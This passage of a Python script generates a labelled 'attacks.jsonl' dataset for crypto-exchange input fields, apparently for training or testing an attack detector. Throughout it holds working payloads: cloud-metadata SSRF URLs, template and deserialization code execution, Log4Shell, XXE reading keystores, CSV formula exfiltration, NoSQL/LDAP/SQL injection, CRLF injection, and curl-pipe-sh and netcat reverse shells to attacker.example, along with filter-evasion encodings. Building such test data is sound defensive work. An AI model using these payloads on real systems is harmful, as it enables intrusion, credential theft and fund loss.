    ("webhook-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook-gopher-redis-set", "gopher://127.0.0.1:6379/_SET%20withdraw_limit%3A7731%20999999999%0D%0AQUIT%0D%0A"),
    ("price-feed-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("token-logo-file-cookie", "file:///home/bitcoin/.bitcoin/.cookie"),
    ("webhook-userinfo-confusion", "http://hooks.mystore.example@127.0.0.1:8080/admin"),
    ("rpc-url-trusted-userinfo-metadata", "https://rpc.sepolia.example@169.254.169.254/latest/user-data"),
    ("rpc-url-dns-rebinding", "http://rebind-7f000001.attacker.example:8545/"),
    ("webhook-open-redirect-metadata", "https://attacker.example/r?to=http://169.254.169.254/latest/user-data"),
    ("jsonrpc-add-chain-internal-rpc", '{"jsonrpc":"2.0","method":"wallet_addEthereumChain","params":[{"chainId":"0x539","chainName":"Local","rpcUrls":["http://10.0.4.12:8545"],"nativeCurrency":{"name":"ETH","symbol":"ETH","decimals":18}}],"id":1}'),
    ("nft-metadata-image-imds", '{"name":"Ape #1","description":"gm","image":"http://169.254.169.254/latest/meta-data/"}'),
    ("ipfs-gateway-local-api", "http://127.0.0.1:5001/api/v0/config/show"),
    ("webhook-docker-api", "http://10.0.0.5:2375/containers/json"),
    ("price-feed-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-imds+ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-imds+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-imds+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("webhook-imds+hex-dotted-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("rpc-url-zero-address", "http://0:8545/"),
    ("webhook-consul-agent", "http://127.0.0.1:8500/v1/agent/self"),
    ("webhook-vault-health", "http://127.0.0.1:8200/v1/sys/health"),
    ("webhook-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook-backslash-parser-differential", "http://127.0.0.1:8080\\@hooks.mystore.example/"),
    ("explorer-preview-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("lnurl-withdraw-callback-lnd-rest", '{"tag":"withdrawRequest","callback":"https://127.0.0.1:8080/v1/channels/transactions","k1":"00","minWithdrawable":1000,"maxWithdrawable":1000}'),
    ("rpc-url-percent-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8332/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-metadata-root", "http://169.254.169.254/"),
    ("plain-file-passwd", "file:///etc/passwd"),
    ("rpc-url-enclosed-digits+unicode-digits", "http://①②⑦.⓪.⓪.①:8545/"),
    ("rpc-url-unspecified-ipv6", "http://[::]:8545/"),
    ("price-oracle-actuator-env", '{"source":"custom","url":"http://10.0.4.12:8080/actuator/env"}'),
    ("tokenuri-internal-prometheus", "http://127.0.0.1:9090/api/v1/targets"),
    ("webhook-ldap-internal-directory", "ldap://127.0.0.1:389/dc=exchange,dc=example??sub?(objectClass=*)"),
]

LITERALS["code"] = [
    ("ticket-pt-jinja2-popen", "Olá, o saque não chegou {{ cycler.__init__.__globals__.os.popen('id').read() }} obrigado"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-yaml-python-popen", "!!python/object/apply:subprocess.Popen [[\"id\"]]"),
    ("memo-jinja2-cycler-popen", "Rent May {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("label-jinja2-context-joiner", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("memo-jinja2-attr-chain+hex-escape", r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ticket-jinja2-config-leak", "Hi, my deposit is missing {{ config.items() }}"),
    ("email-template-twig-filter-system", "{{['cat /var/www/.env']|filter('system')}}"),
    ("email-template-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("receipt-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("receipt-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("label-erb-backtick", "<%= `id` %>"),
    ("memo-erb-file-read", "Gift for Jürgen <%= File.read('/etc/passwd') %>"),
    ("email-template-smarty-system", "{system('cat /var/www/.env')}"),
    ("memo-mako-module-os", "${self.module.cache.util.os.system('id')}"),
    ("view-name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("alert-expression-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("order-tag-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("label-java-el-reflection", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("user-agent-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("label-log4shell-dns", "Hardware wallet ${jndi:dns://x.attacker.example/a}"),
    ("ticket-log4shell-lower-lookup", "${${lower:j}ndi:${lower:r}mi://203.0.113.45/o}"),
    ("memo-log4shell-default-value-lookup", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/x}"),
    ("api-key-label-log4shell-env-exfil", "trading-bot ${jndi:ldap://${env:DB_PASSWORD}.attacker.example/a}"),
    ("ticket-log4shell-ldaps", "Withdrawal stuck ${jndi:ldaps://198.51.100.7/tx}"),
    ("settings-json-proto-admin", '{"__proto__":{"isAdmin":true}}'),
    ("settings-json-constructor-prototype", '{"constructor":{"prototype":{"withdrawLimit":1e12}}}'),
    ("settings-query-proto-kyc", "settings[__proto__][kycVerified]=true"),
    ("settings-json-proto-execargv", '{"notifications":{"email":true},"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'curl attacker.example/p|sh\')"]}}'),
    ("csv-label-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click to verify\")"),
    ("csv-memo-dde-cmd", "=cmd|'/c calc'!A1"),
    ("csv-label-at-sum-dde", "@SUM(1+1)*cmd|' /C powershell iwr attacker.example/a'!A0"),
    ("csv-amount-webservice", "+WEBSERVICE(\"http://attacker.example/?\"&C3)"),
    ("csv-amount-minus-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-label-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C1),\"//a\")"),
    ("kyc-xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE kyc [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><kyc><name>&f;</name></kyc>"),
    ("invoice-xml-xxe-oob-dtd", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\"> %ext;]><invoice><amount>0.5</amount></invoice>"),
    ("kyc-xml-xxe-ssrf-imds", "<?xml version=\"1.0\"?><!DOCTYPE k [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><kyc><address>&m;</address></kyc>"),
    ("invoice-xml-xinclude", "<invoice xmlns:xi=\"http://www.w3.org/2001/XInclude\"><memo><xi:include parse=\"text\" href=\"file:///etc/bitcoin/bitcoin.conf\"/></memo></invoice>"),
    ("nft-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///home/node/.ethereum/keystore/key.json\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&k;</text></svg>"),
    ("kyc-xml-xxe-php-filter", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><doc>&s;</doc>"),
    ("backup-import-php-object", 'O:8:"Exporter":2:{s:4:"path";s:21:"/var/www/html/fee.php";s:4:"data";s:28:"<?php system($_GET["c"]); ?>";}'),
    ("session-cookie-pickle-reduce", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3B8c2gnCnRSLg=="),
    ("config-import-yaml-python-apply", "!!python/object/apply:os.system [\"curl -s attacker.example/y | sh\"]"),
    ("config-import-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("api-json-jsonnet-typename", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
    ("api-json-jackson-jdbcrowset", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/o","autoCommit":true}]'),
    ("api-json-fastjson-autotype", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.45:1099/x","autoCommit":true}'),
    ("profile-node-serialize-iife", '{"theme":"dark","rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl attacker.example/n|sh\')}()"}'),
    ("alert-expression-node-eval", "price < 2800 || require('child_process').execSync('id')"),
    ("fee-formula-python-eval", "amount * 0.001 + __import__('os').system('id')"),
    ("plain-jinja2-subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe-file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>"),
    ("plain-proto-pollution", '{"__proto__":{"admin":true}}'),
    ("plain-csv-dde", "=1+2+cmd|' /C calc'!A0"),
    ("memo-jinja2-lipsum-globals", "{{ lipsum.__globals__['os'].popen('cat /app/.env').read() }}"),
    ("ticket-jinja2-multiline", "Hello support,\n{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}\nThanks"),
    ("alert-expression-jexl-class", "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("ticket-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("webhook-template-go-ssti-method", "{{ .Wallet.ExportPrivateKey }}"),
    ("label-csv-tab-prefixed-formula", "\t=HYPERLINK(\"http://attacker.example/x\",\"Open\")"),
    ("abi-upload-proto-merge", '{"abi":[],"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}'),
    ("memo-log4shell-nested-base64", "${jndi:ldap://attacker.example/Basic/Command/Base64/Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9pfHNo}"),
    ("kyc-xml-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><kyc>&f;&f;&f;&f;</kyc>"),
    ("receipt-freemarker-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("email-template-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c curl attacker.example/r\")"),
    ("memo-pug-unescaped-code", "#{global.process.mainModule.require('child_process').execSync('id')}"),
]

LITERALS["nosqli"] = [
    ("plain-where-true", "{\"$where\":\"1==1\"}"),
    ("wallet-lookup-ne-null", '{"address":{"$ne":null}}'),
    ("login-regex-gt", '{"email":{"$regex":".*"},"password":{"$gt":""}}'),
    ("api-key-regex-prefix-blind", '{"apiKey":{"$regex":"^k7"}}'),
    ("ticket-filter-where-sleep", '{"$where":"sleep(5000) || true"}'),
    ("withdraw-query-ne-bracket", "address[$ne]=x&network=ERC20"),
    ("login-query-regex-bracket", "username=admin&password[$regex]=^a.*"),
    ("history-filter-idor-ne", '{"amount":{"$gt":0},"userId":{"$ne":"me"}}'),
    ("where-string-js-breakout", "0xabc' || this.balance > 0 || '"),
    ("wallet-filter-exists-projection", '{"filter":{"seedPhrase":{"$exists":true}},"projection":{"seedPhrase":1,"userId":1}}'),
    ("report-pipeline-lookup", '[{"$lookup":{"from":"api_keys","localField":"userId","foreignField":"userId","as":"k"}},{"$project":{"k.secret":1}}]'),
    ("txid-regex-any", '{"txid":{"$regex":".*","$options":"si"}}'),
    ("otp-nin-empty", '{"username":"admin","otp":{"$nin":[]}}'),
    ("filter-expr-function-sleep", '{"$expr":{"$function":{"body":"function(){sleep(4000);return true}","args":[],"lang":"js"}}}'),
    ("jsonrpc-param-operator", '{"jsonrpc":"2.0","method":"getWallet","params":[{"owner":{"$ne":null}}],"id":1}'),
    ("search-lucene-exists", "memo:* OR _exists_:apiSecret"),
    ("withdraw-query-ne+urlenc", "address%5B%24ne%5D=1&network=TRC20"),
    ("reset-token-gt", '{"email":{"$gt":""},"resetToken":{"$gt":""}}'),
    ("history-filter-or-exists", '{"$or":[{"userId":"7731"},{"userId":{"$exists":true}}]}'),
    ("history-query-gt-empty", "status=pending&userId[$gt]="),
    ("kyc-filter-where-true", '{"kyc.status":"approved","$where":"function(){ return true }"}'),
    ("plain-ne-null", '{"$ne":null}'),
    ("plain-bracket-ne", "password[$ne]=1"),
]

LITERALS["crlf"] = [
    ("contact-subject-es-bcc", "Solicitud de retiro – urgente\r\nBcc: lista@attacker.example"),
    ("webhook-header-value-injection", "m_00231\r\nX-Admin-Override: true"),
    ("redirect-set-cookie+urlenc", "/wallet%0d%0aSet-Cookie:%20session=attacker-fixed-session"),
    ("redirect-location+urlenc", "/deposit%0d%0aLocation:%20https://attacker.example/phish"),
    ("txid-log-forging-approval", "0x88df016429689c079f3b2f6ad39fa052532c5679\n2024-06-01T12:00:00Z INFO withdrawal approved by compliance user=admin amount=50 BTC"),
    ("memo-log-forging-audit", "ok\r\n[AUDIT] kyc_status=APPROVED reviewer=agent17 user=7731"),
    ("contact-email-bcc-injection", "alice@example.net\r\nBcc: harvest@attacker.example"),
    ("ticket-subject-cc-body-injection", "Ticket #448812\r\nCc: dump@attacker.example\r\n\r\nYour withdrawal address was changed to bc1qz8w0s3jn54khce6mua7lqpzry9x8gf2tvdw0s3. Reply within 1h."),
    ("export-filename-response-splitting", "tax-2023.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("contact-email-smtp-rcpt", "user@example.net>\r\nRCPT TO:<x@attacker.example"),
    ("redirect-header+utf8-truncation", "/wallet%E5%98%8A%E5%98%8DSet-Cookie:%20pwned=1"),
    ("redirect-set-cookie+double-urlenc", "/markets%250d%250aSet-Cookie:%2520csrftoken=fixed"),
    ("label-lf-header-injection", "Savings\nX-Forwarded-For: 127.0.0.1"),
    ("rpc-path-request-splitting", "eth_call HTTP/1.1\r\nHost: internal-node:8545\r\n\r\nPOST /admin_addPeer HTTP/1.1\r\nHost: internal-node:8545\r\n"),
    ("memo-jsonl-log-forging", "gift\"}\n{\"level\":\"info\",\"msg\":\"2FA disabled\",\"user\":\"7731\",\"by\":\"support\"}"),
    ("label-csv-audit-row-forging", "DCA buys\n2024-06-01,7731,WITHDRAW,50.0,APPROVED"),
    ("ticket-syslog-forging", "stuck tx\r\n<13>Jun  1 12:00:00 wallet-api auth: admin login success from 10.0.0.1"),
    ("webhook-url-header+urlenc", "https://hooks.mystore.example/cb%0d%0aX-Signature:%20forged"),
    ("lang-cookie-domain+urlenc", "de%0d%0aSet-Cookie:%20lang=de;%20Domain=.exchange.example"),
    ("display-name-reply-to", "Jan Novák\r\nReply-To: support-desk@attacker.example"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie:%20a=b"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-lf-header+urlenc", "%0aInjected-Header: 1"),
    ("redirect-body-injection", "/status\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Maintenance: send funds to the new deposit address</h1>"),
    ("memo-log-ansi-escape", "payout\u001b[2J\u001b[1;31mALL WITHDRAWALS APPROVED\u001b[0m"),
    ("contact-mail-content-type-injection", "victim@example.net\nContent-Type: text/html\n\n<a href=https://attacker.example>Verify</a>"),
    ("amount-log-forging-crlf+urlenc", "0.5%0D%0A2024-06-01 12:00:00 INFO user=7731 kyc=verified tier=3"),
]

LITERALS["ldap-xpath"] = [
    ("plain-ldap-wildcard-close", "*)(cn=*"),
    ("staff-login-ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"),
    ("agent-search-ldap-objectclass", "*)(objectClass=*))(&(uid=x"),
    ("staff-login-ldap-or-password", "admin)(|(userPassword=*)"),
    ("staff-login-ldap-password-blind", "admin)(userPassword=a*"),
    ("agent-search-ldap-mail-enum", "*)(mail=*@exchange.example"),
    ("agent-search-ldap-description", "jdoe)(description=*seed*"),
    ("staff-login-ldap-nullbyte-truncation", "admin*))%00"),
    ("staff-login-ldap+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("address-book-xpath-tautology", "0x7a3B' or '1'='1"),
    ("address-book-xpath-name-probe", "x' or name()='apiKey' or 'a'='b"),
    ("address-book-xpath-union-nodes", "'] | //user/password | //x['"),
    ("address-book-xpath-substring-blind", "' or substring(//admin/password,1,1)='s' and '1'='1"),
    ("wallet-xml-xpath-string-length", "0x1' or string-length(//wallet[1]/seed)>10 or 'x'='y"),
    ("label-search-xpath-contains-breakout", "') or ('1'='1"),
    ("address-book-xpath-double-quote", "\" or \"\"=\""),
    ("order-xml-xpath-numeric", "1 or 1=1"),
    ("invoice-xpath-doc-exfil", "' and doc(concat('http://attacker.example/',//apiKey/text())) or '"),
    ("plain-ldap-or-objectclass", "*)(|(objectClass=*)"),
    ("plain-xpath-or", "' or 1=1 or ''='"),
    ("staff-login-ldap-absolute-true", "admin)(&)"),
]


# ---------------------------------------------------------------------------
# Templates: hand-written pools put into domain contexts, one encoding each
# ---------------------------------------------------------------------------

def enc_url(s):
    return quote(s, safe="")


def enc_url2(s):
    return quote(quote(s, safe=""), safe="")


def enc_case(rng, s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def enc_html_dec(s):
    return "".join("&#{};".format(ord(c)) for c in s)


def enc_uni(s):
    return "".join("\\u{:04x}".format(ord(c)) if not c.isalnum() else c for c in s)


def fake_eth(rng):
    return "0x" + fake_hex(rng, 40)


def pick_mode(rng, modes):
    """Most templated values stay unencoded; about 30% get one encoding."""
    return rng.choice(modes) if rng.random() < 0.3 else "none"


def tag(cls, mode):
    return cls if mode == "none" else cls + "+" + mode


def fake_bc1(rng):
    return "bc1q" + "".join(rng.choice(B32) for _ in range(38))


SQLI_TAILS = [
    ("union-select", "' UNION SELECT api_key,api_secret FROM api_keys-- "),
    ("tautology", "' OR 'a'='a"),
    ("pg-sleep", "' AND 1=(SELECT 1 FROM pg_sleep(5))-- "),
    ("mysql-sleep", "' AND SLEEP(6)-- -"),
    ("stacked-update", "'; UPDATE users SET role='admin' WHERE id=7731;-- "),
]


def tpl_sqli(rng):
    tech, tail = rng.choice(SQLI_TAILS)
    ctx, head = rng.choice([("address", fake_eth(rng)), ("btc-address", fake_bc1(rng)),
                            ("txhash", "0x" + fake_hex(rng, 64))])
    mode = pick_mode(rng, ["urlenc", "double-urlenc", "case-mix", "comment-spaces"])
    if mode == "none":
        val = head + tail
    elif mode == "urlenc":
        val = head + enc_url(tail)
    elif mode == "double-urlenc":
        val = head + enc_url2(tail)
    elif mode == "case-mix":
        val = head + enc_case(rng, tail)
    else:
        val = head + tail.replace(" ", "/**/")
    return tag("{}-{}".format(ctx, tech), mode), val


XSS_PAYLOADS = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script-src", "<script src=//attacker.example/x.js></script>"),
    ("iframe-js", "<iframe src=javascript:alert(document.domain)>"),
]
XSS_CTX = [("label", "Savings "), ("ticket", "Deposit missing, tx attached "), ("nft-name", "Punk #812 "),
           ("memo", "Rent June ")]


def tpl_xss(rng):
    tech, p = rng.choice(XSS_PAYLOADS)
    ctx, head = rng.choice(XSS_CTX)
    mode = pick_mode(rng, ["urlenc", "double-urlenc", "case-mix", "unicode-escape"])
    if mode == "none":
        val = head + p
    elif mode == "urlenc":
        val = head + enc_url(p)
    elif mode == "double-urlenc":
        val = head + enc_url2(p)
    elif mode == "case-mix":
        val = head + enc_case(rng, p)
    else:
        val = '{"label":"' + head + enc_uni(p) + '"}'
        ctx = ctx + "-json"
    return tag("{}-{}".format(ctx, tech), mode), val


CMDI_TAILS = [
    ("semicolon-curl-sh", "; curl -s http://attacker.example/c.sh | sh"),
    ("and-id", " && id"),
    ("substitution-sleep", "$(sleep 8)"),
    ("pipe-nc", " | nc 198.51.100.14 4444 -e /bin/sh"),
    ("newline-wget", "\nwget -qO- http://203.0.113.45/w | sh"),
]


def tpl_cmdi(rng):
    tech, tail = rng.choice(CMDI_TAILS)
    ctx, head = rng.choice([("txid", fake_hex(rng, 64)), ("eth-address", fake_eth(rng)),
                            ("btc-address", fake_bc1(rng))])
    mode = pick_mode(rng, ["urlenc", "double-urlenc", "ifs"])
    if mode == "none":
        val = head + tail
    elif mode == "urlenc":
        val = head + enc_url(tail)
    elif mode == "double-urlenc":
        val = head + enc_url2(tail)
    else:
        if " " not in tail:
            tail = ";sleep${IFS}8"
            tech = "semicolon-sleep"
        val = head + tail.replace(" ", "${IFS}")
    return tag("{}-{}".format(ctx, tech), mode), val


TRAV_TARGETS = ["etc/passwd", "root/.bitcoin/wallet.dat", "home/node/.ethereum/keystore",
                "var/lib/lnd/admin.macaroon", "app/.env"]


def tpl_traversal(rng):
    depth = rng.randint(3, 7)
    target = rng.choice(TRAV_TARGETS)
    ctx = rng.choice(["keystore-download", "kyc-doc", "export-file", "abi-loader"])
    mode = pick_mode(rng, ["urlenc", "double-urlenc", "overlong-utf8", "backslash-urlenc"])
    if mode == "none":
        val = "../" * depth + target
    elif mode == "urlenc":
        val = "%2e%2e%2f" * depth + target.replace("/", "%2f")
    elif mode == "double-urlenc":
        val = "%252e%252e%252f" * depth + target
    elif mode == "overlong-utf8":
        val = "%c0%ae%c0%ae/" * depth + target
    else:
        val = "..%5c" * depth + target.replace("/", "%5c")
    return tag("{}-dotdot".format(ctx), mode), val


SSRF_TARGETS = [
    ("loopback-bitcoind", (127, 0, 0, 1), ":8332/"),
    ("loopback-geth", (127, 0, 0, 1), ":8545/"),
    ("imds", (169, 254, 169, 254), "/latest/meta-data/"),
    ("private-node", (10, 0, 4, 12), ":8545/"),
]


def tpl_ssrf(rng):
    name, ip, tail = rng.choice(SSRF_TARGETS)
    ctx = rng.choice(["rpc-url", "webhook", "token-logo"])
    mode = pick_mode(rng, ["decimal-ip", "hex-ip", "octal-ip", "mixed-ip"])
    n = (ip[0] << 24) | (ip[1] << 16) | (ip[2] << 8) | ip[3]
    if mode == "none":
        host = "{}.{}.{}.{}".format(*ip)
    elif mode == "decimal-ip":
        host = str(n)
    elif mode == "hex-ip":
        host = "0x{:08x}".format(n)
    elif mode == "octal-ip":
        host = ".".join("0{:o}".format(o) for o in ip)
    else:
        host = "0x{:x}.{}.{}".format(ip[0], ip[1], (ip[2] << 8) | ip[3])
    return tag("{}-{}".format(ctx, name), mode), "http://" + host + tail


CODE_BASES = [
    ("log4shell", "${jndi:ldap://attacker.example/t}"),
    ("jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("proto-pollution", '{"__proto__":{"isAdmin":true}}'),
]


def tpl_code(rng):
    tech, p = rng.choice(CODE_BASES)
    ctx, head = rng.choice([("memo", "Rent May "), ("label", "Savings "), ("ticket", "Withdrawal stuck ")])
    mode = pick_mode(rng, ["urlenc", "double-urlenc", "unicode-escape"])
    if mode == "none":
        val = head + p
    elif mode == "urlenc":
        val = head + enc_url(p)
    elif mode == "double-urlenc":
        val = head + enc_url2(p)
    else:
        if tech == "proto-pollution":
            val = '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'
        else:
            val = '{"%s":"%s%s"}' % (ctx, head, enc_uni(p))
    return tag("{}-{}".format(ctx, tech), mode), val


NOSQL_OPS = [("ne", "[$ne]=0x"), ("gt", "[$gt]="), ("regex", "[$regex]=.*")]


def tpl_nosqli(rng):
    op, frag = rng.choice(NOSQL_OPS)
    field = rng.choice(["address", "apiKey", "password", "userId"])
    mode = pick_mode(rng, ["urlenc"])
    if mode == "none":
        return "query-{}".format(op), field + frag + "&network=ERC20"
    return "query-{}+urlenc".format(op), enc_url(field + frag).replace("%3D", "=") + "&network=ERC20"


CRLF_HEADERS = ["Set-Cookie: sid=fixed", "X-Admin: 1", "Location: https://attacker.example/"]


def tpl_crlf(rng):
    h = rng.choice(CRLF_HEADERS)
    ctx = rng.choice(["redirect", "export-filename", "webhook-header"])
    mode = rng.choice(["urlenc", "double-urlenc"])
    body = "\r\n" + h
    val = rng.choice(["/wallet", "report.csv", "m_00231"]) + (enc_url(body) if mode == "urlenc" else enc_url2(body))
    return "{}-header-injection+{}".format(ctx, mode), val


LDAP_BASES = [("ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"), ("xpath-tautology", "' or '1'='1")]


def tpl_ldap(rng):
    tech, p = rng.choice(LDAP_BASES)
    ctx = "staff-login" if tech.startswith("ldap") else "address-book"
    return "{}-{}+double-urlenc".format(ctx, tech), enc_url2(p)


TEMPLATES = {
    "sqli": (tpl_sqli, 12),
    "xss": (tpl_xss, 12),
    "cmdi": (tpl_cmdi, 10),
    "traversal": (tpl_traversal, 7),
    "ssrf": (tpl_ssrf, 7),
    "code": (tpl_code, 10),
    "nosqli": (tpl_nosqli, 3),
    "crlf": (tpl_crlf, 4),
    "ldap-xpath": (tpl_ldap, 2),
}

CATEGORIES = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat in CATEGORIES:
        n_lit = 0
        for cls, v in LITERALS[cat]:
            assert v not in seen, ("duplicate literal", cat, v)
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        fn, n_tpl = TEMPLATES[cat]
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            assert tries < 5000, cat
            cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, n_lit + made, n_lit))

    total_lit = sum(s[2] for s in stats)
    assert total_lit >= MIN_LITERAL_SHARE * len(rows), (total_lit, len(rows))

    # must not collide with the benign file when it exists
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = [json.loads(line)["value"] for line in fh]
        clash = [v for _, _, v in rows if v in bvals]
        assert not clash, clash[:3]

    out = Path(__file__).with_name("attacks.jsonl")
    lines = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v[:60])
        obj = {"id": "{}-{:05d}".format(PREFIX, i), "category": cat, "class": cls,
               "label": "attack", "value": v}
        lines.append(json.dumps(obj, ensure_ascii=False) + "\n")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        fh.writelines(lines)

    for cat, n, nl in stats:
        print("{:<12} {:>4}  literals {:>3}".format(cat, n, nl))
    n_plain = sum(1 for _, c, _ in rows if c.startswith("plain-"))
    n_enc = sum(1 for _, c, _ in rows if "+" in c)
    print("total {:>4}  literals {:>4}  plain {}  encoded {}  -> {}".format(
        len(rows), total_lit, n_plain, n_enc, out.name))


if __name__ == "__main__":
    main()
